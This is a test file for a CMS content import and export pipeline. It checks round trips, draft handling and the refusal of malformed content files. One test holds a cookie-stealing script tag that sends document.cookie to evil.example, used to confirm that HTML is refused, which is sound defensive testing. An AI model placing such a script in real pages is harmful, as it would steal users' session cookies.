/**
 * content/ <-> CMS: the demo content survives import and export byte for byte, an edit changes only
 * its own files, bad files are refused with file, line and reason before anything is written, and
 * drafts never leave the CMS.
 */
import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { sql, type SQLiteAdapter } from '@payloadcms/db-sqlite'
import type { CollectionSlug, Payload } from 'payload'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'

import { exportContent } from '../../cms/content/exportContent'
import { ContentProblems, importContent } from '../../cms/content/importContent'
import { startCms, stopCms } from './helpers/cms'
import { paragraphs } from './helpers/documents'

const demoContent = path.resolve(import.meta.dirname, '../../content')
let payload: Payload
let imported: string

beforeAll(async () => {
  payload = await startCms()
  imported = await copyOfDemo()
  const summary = await importContent(payload, imported)
  expect(summary.created.length).toBeGreaterThan(100)
})
afterAll(async () => {
  await stopCms(payload)
})

async function copyOfDemo(): Promise<string> {
  const dir = await mkdtemp(path.join(process.env.TEST_RUN_DIR!, 'content-'))
  await cp(demoContent, dir, { recursive: true })
  return dir
}

/** The document of a collection with this content id, as the CMS has it now. */
async function byContentId<C extends CollectionSlug>(collection: C, contentId: string) {
  return (await payload.find({ collection, where: { contentId: { equals: contentId } } })).docs[0]
}

async function allFiles(dir: string, prefix = ''): Promise<string[]> {
  const out: string[] = []
  for (const entry of await readdir(path.join(dir, prefix), { withFileTypes: true })) {
    const relative = prefix ? `${prefix}/${entry.name}` : entry.name
    if (entry.isDirectory()) out.push(...(await allFiles(dir, relative)))
    else out.push(relative)
  }
  return out.sort()
}

/** Exports into a fresh folder holding only content/README.md, and returns that folder. */
async function exportToFreshFolder(): Promise<string> {
  const dir = await mkdtemp(path.join(process.env.TEST_RUN_DIR!, 'export-'))
  await cp(path.join(demoContent, 'README.md'), path.join(dir, 'README.md'))
  await exportContent(payload, dir)
  return dir
}

async function counts(): Promise<Record<string, number>> {
  const result: Record<string, number> = {}
  for (const collection of [
    'posts',
    'chapters',
    'books',
    'tips',
    'speakers',
    'pages',
    'topics',
    'media',
    'users',
  ] as const) {
    result[collection] = (await payload.count({ collection, overrideAccess: true })).totalDocs
  }
  return result
}

describe('round trip', () => {
  test('import then export gives the demo content back byte for byte', async () => {
    const exported = await exportToFreshFolder()
    const expected = await allFiles(demoContent)
    expect(await allFiles(exported)).toEqual(expected)
    for (const file of expected) {
      const [a, b] = await Promise.all([
        readFile(path.join(demoContent, file)),
        readFile(path.join(exported, file)),
      ])
      expect(a.equals(b), `${file} differs after import and export`).toBe(true)
    }
  })

  test('importing the same files again changes nothing', async () => {
    const before = await counts()
    const summary = await importContent(payload, imported)
    expect(summary.created).toEqual([])
    expect(summary.updated).toEqual([])
    expect(await counts()).toEqual(before)
  })

  test('a dry run reports what would change and changes nothing', async () => {
    const dir = await copyOfDemo()
    const file = path.join(dir, 'topics/webcare.nl.md')
    await writeFile(
      file,
      (await readFile(file, 'utf8')).replace(/\n([^\n]+)\n$/, '\nEen nieuwe omschrijving.\n'),
    )
    const before = await payload.find({
      collection: 'topics',
      where: { contentId: { equals: 'webcare' } },
      locale: 'nl',
    })
    const summary = await importContent(payload, dir, { dryRun: true })
    expect(summary).toMatchObject({ created: [], updated: ['topics/webcare'], dryRun: true })
    const after = await payload.find({
      collection: 'topics',
      where: { contentId: { equals: 'webcare' } },
      locale: 'nl',
    })
    expect(after.docs[0].description).toBe(before.docs[0].description)
    expect(after.docs[0].updatedAt).toBe(before.docs[0].updatedAt)
  })

  test('an edit in the CMS changes only the files of that document', async () => {
    const dir = await copyOfDemo()
    const tip = await byContentId('tips', 'tip-008')
    await payload.update({
      collection: 'tips',
      id: tip.id,
      locale: 'nl',
      data: { title: 'Kies een wachtwoordzin van vier woorden' },
    })
    const summary = await exportContent(payload, dir)
    expect(summary.written).toEqual(['tips/tip-008.nl.md'])
    expect(summary.deleted).toEqual([])
    expect(await readFile(path.join(dir, 'tips/tip-008.nl.md'), 'utf8')).toContain(
      'title: Kies een wachtwoordzin van vier woorden',
    )
    await importContent(payload, imported) // restore the demo title for the other tests
  })
})

describe('an export follows the change', () => {
  test('only documents that changed are rendered, and a file edited by hand is put back', async () => {
    const dir = await copyOfDemo()
    await exportContent(payload, dir)
    const again = await exportContent(payload, dir)
    expect(again).toMatchObject({ rendered: 0, written: [], deleted: [] })

    const tip = await byContentId('tips', 'tip-004')
    await payload.update({
      collection: 'tips',
      id: tip.id,
      locale: 'en',
      data: { title: 'Read your letter aloud before you send it' },
    })
    const edited = await exportContent(payload, dir)
    // One save changes the document in both languages' eyes; only the English file differs.
    expect(edited).toMatchObject({ rendered: 2, written: ['tips/tip-004.en.md'], deleted: [] })

    const post = path.join(dir, 'posts/open-koffie-in-zwolle.en.md')
    const original = await readFile(post)
    await writeFile(post, 'edited by hand\n')
    const restored = await exportContent(payload, dir)
    expect(restored).toMatchObject({ rendered: 1, written: ['posts/open-koffie-in-zwolle.en.md'] })
    expect((await readFile(post)).equals(original)).toBe(true)
    await importContent(payload, imported) // restore the demo title for the other tests
  })

  test('a preview of a draft does not change what the live export keeps', async () => {
    const live = await copyOfDemo()
    await exportContent(payload, live)
    const post = await byContentId('posts', 'samen-bomen-tellen')
    await payload.update({
      collection: 'posts',
      id: post.id,
      locale: 'nl',
      draft: true,
      data: { title: 'Titel die alleen de preview toont' },
    })
    const preview = await copyOfDemo()
    await exportContent(payload, preview, {
      draft: { collection: 'posts', id: post.id, contentId: post.contentId! },
    })
    const file = 'posts/samen-bomen-tellen.nl.md'
    expect(await readFile(path.join(preview, file), 'utf8')).toContain('Titel die alleen de preview toont')

    await writeFile(path.join(live, file), await readFile(path.join(preview, file)))
    const summary = await exportContent(payload, live)
    expect(summary.written).toEqual([file])
    expect(await readFile(path.join(live, file), 'utf8')).not.toContain('Titel die alleen de preview toont')
  })
})

describe('drafts never reach content/', () => {
  test('drafts, scheduled posts and unsaved changes to published posts are not exported', async () => {
    const author = await byContentId('users', 'sanne-de-vries')
    const base = { summary: 'Nog niet af.', body: paragraphs('Geheime concepttekst.'), authors: [author.id] }
    await payload.create({
      collection: 'posts',
      draft: true,
      data: { ...base, title: 'Concept dat niemand mag zien', _status: 'draft' },
    })
    const scheduled = await payload.create({
      collection: 'posts',
      draft: true,
      data: { ...base, title: 'Gepland voor volgende maand', _status: 'draft' },
    })
    await payload.jobs.queue({
      task: 'schedulePublish',
      waitUntil: new Date(Date.now() + 30 * 24 * 3600 * 1000),
      input: { type: 'publish', doc: { relationTo: 'posts', value: scheduled.id } },
    })
    const live = await byContentId('posts', 'open-koffie-in-zwolle')
    await payload.update({
      collection: 'posts',
      id: live.id,
      draft: true,
      data: { title: 'Nieuwe titel in concept' },
    })

    const exported = await exportToFreshFolder()
    const texts = await Promise.all(
      (await allFiles(exported)).map((file) => readFile(path.join(exported, file), 'latin1')),
    )
    const everything = texts.join('\n')
    expect(everything).not.toContain('Concept dat niemand mag zien')
    expect(everything).not.toContain('Gepland voor volgende maand')
    expect(everything).not.toContain('Geheime concepttekst')
    expect(everything).not.toContain('Nieuwe titel in concept')
    expect(await readFile(path.join(exported, 'posts/open-koffie-in-zwolle.nl.md'), 'utf8')).toContain(
      'Open Koffie in Zwolle',
    )
  })

  test('an unpublished document disappears from content/, and comes back when published again', async () => {
    const dir = await copyOfDemo()
    const page = await byContentId('pages', 'privacy')
    await payload.update({ collection: 'pages', id: page.id, data: { _status: 'draft' } })
    const summary = await exportContent(payload, dir)
    expect(summary.deleted).toEqual(['pages/privacy.en.md', 'pages/privacy.nl.md'])
    // The contact page links to the privacy statement: that link becomes plain text, with a warning.
    expect(summary.written).toEqual(['pages/contact.en.md', 'pages/contact.nl.md'])
    expect(summary.warnings.join('\n')).toMatch(/pages\/contact\.nl\.md: unlinked a link to pages/)
    expect(await readFile(path.join(dir, 'pages/contact.nl.md'), 'utf8')).not.toContain('page:privacy')

    await payload.update({ collection: 'pages', id: page.id, data: { _status: 'published' } })
    expect((await exportContent(payload, dir)).written).toEqual([
      'pages/contact.en.md',
      'pages/contact.nl.md',
      'pages/privacy.en.md',
      'pages/privacy.nl.md',
    ])
  })
})

describe('bad files are refused before anything is imported', () => {
  /** Copies the demo, applies one change, imports, and returns the problems; checks nothing was written. */
  async function problemsAfter(change: (dir: string) => Promise<void>) {
    const dir = await copyOfDemo()
    await change(dir)
    const before = await counts()
    const error = await importContent(payload, dir).then(
      () => undefined,
      (caught: unknown) => caught,
    )
    expect(error).toBeInstanceOf(ContentProblems)
    expect(await counts()).toEqual(before)
    await rm(dir, { recursive: true })
    return (error as ContentProblems).problems
  }

  const edit = (dir: string, file: string, from: string | RegExp, to: string) =>
    readFile(path.join(dir, file), 'utf8').then((text) => {
      const changed = text.replace(from, to)
      if (changed === text) throw new Error(`test set-up: ${String(from)} not found in ${file}`)
      return writeFile(path.join(dir, file), changed)
    })

  test('broken YAML', async () => {
    const problems = await problemsAfter((dir) =>
      edit(dir, 'tips/tip-003.nl.md', /^category: (.*)$/m, 'category: [$1'),
    )
    // The parser notices the unclosed "[" on the next line, and says what it expected.
    expect(problems).toEqual([
      {
        file: 'tips/tip-003.nl.md',
        line: 6,
        message: expect.stringMatching(/^the YAML is broken: Flow sequence .* end with a \]$/),
      },
    ])
  })

  test('an unknown field', async () => {
    const problems = await problemsAfter((dir) =>
      edit(dir, 'posts/open-koffie-in-zwolle.nl.md', 'slug:', 'titel: Dubbel\nslug:'),
    )
    expect(problems).toEqual([
      {
        file: 'posts/open-koffie-in-zwolle.nl.md',
        line: 3,
        message: 'unknown field "titel"; check its spelling against content/README.md',
      },
    ])
  })

  test('a missing required field', async () => {
    const problems = await problemsAfter((dir) =>
      edit(dir, 'speakers/samira-ouali.en.md', /^howToRequest: .*\n/m, ''),
    )
    // A missing field has no line of its own: the problem points at the start of the front matter.
    expect(problems).toEqual([
      { file: 'speakers/samira-ouali.en.md', line: 2, message: '"howToRequest" is required' },
    ])
  })

  test('a reference to an image that does not exist', async () => {
    const problems = await problemsAfter((dir) =>
      edit(
        dir,
        'posts/open-koffie-in-zwolle.nl.md',
        'hero: blog-open-koffie-tafel',
        'hero: blog-bestaat-niet',
      ),
    )
    expect(problems).toContainEqual({
      file: 'posts/open-koffie-in-zwolle.nl.md',
      line: expect.any(Number),
      message: '"hero" refers to "blog-bestaat-niet", which does not exist in content/media',
    })
    expect(problems).toContainEqual({
      file: 'posts/open-koffie-in-zwolle.en.md',
      line: expect.any(Number),
      message: expect.stringContaining('"hero" differs from posts/open-koffie-in-zwolle.nl.md'),
    })
  })

  test('a duplicate slug', async () => {
    const problems = await problemsAfter((dir) =>
      edit(dir, 'tips/tip-002.nl.md', /^slug: .*$/m, 'slug: zet-het-antwoord-in-de-eerste-zin-van-je-brief'),
    )
    expect(problems).toEqual([
      {
        file: 'tips/tip-002.nl.md',
        line: 4,
        message:
          'slug "zet-het-antwoord-in-de-eerste-zin-van-je-brief" is already used by tips/tip-001.nl.md',
      },
    ])
  })

  /** Appends a block to a file and returns the line it starts on. */
  const append = async (dir: string, file: string, block: string) => {
    const text = await readFile(path.join(dir, file), 'utf8')
    await writeFile(path.join(dir, file), `${text}\n${block}\n`)
    return text.split('\n').length + 1
  }

  test('an unknown directive', async () => {
    let line = 0
    const problems = await problemsAfter(async (dir) => {
      line = await append(dir, 'pages/contact.nl.md', ':::waarschuwing\nPas op.\n:::')
    })
    expect(problems).toEqual([
      {
        file: 'pages/contact.nl.md',
        line,
        message: 'unknown directive ":::waarschuwing"; known: callout, tip (:::), figure, video (::)',
      },
    ])
  })

  test('HTML with a script tag', async () => {
    let line = 0
    const problems = await problemsAfter(async (dir) => {
      line = await append(
        dir,
        'book/chapters/hoofdstuk-2.en.md',
        '<script>fetch("https://evil.example/?" + document.cookie)</script>',
      )
    })
    expect(problems).toEqual([
      {
        file: 'book/chapters/hoofdstuk-2.en.md',
        line,
        message: expect.stringContaining('HTML is not allowed in content'),
      },
    ])
  })
})

describe('a large archive', () => {
  // Without SQLite's statistics every read of a document scanned the whole table of translations
  // (at 5,000 posts, 100 MB of bodies per post read), so importing the 10,000-post archive and
  // the admin's lists slowed down as the archive grew. The import leaves the statistics behind.
  test("after an import, SQLite finds a document's translations through an index", async () => {
    const db = (payload.db as unknown as SQLiteAdapter).drizzle
    // SQLite skips through the (_locale, _parent_id) index only for 18 or more rows per language:
    // in the demo, the tips and the posts' versions (the 16 posts alone are too few).
    for (const table of ['tips_locales', '_posts_v_locales']) {
      const plan = await db.all<{ detail: string }>(
        sql.raw(`EXPLAIN QUERY PLAN SELECT * FROM "${table}" WHERE "_parent_id" = 1`),
      )
      const steps = plan.map((step) => step.detail)
      expect(steps, table).toEqual([
        expect.stringMatching(/^SEARCH .* USING (COVERING )?INDEX .*_parent_id=\?/),
      ])
    }
  })
})
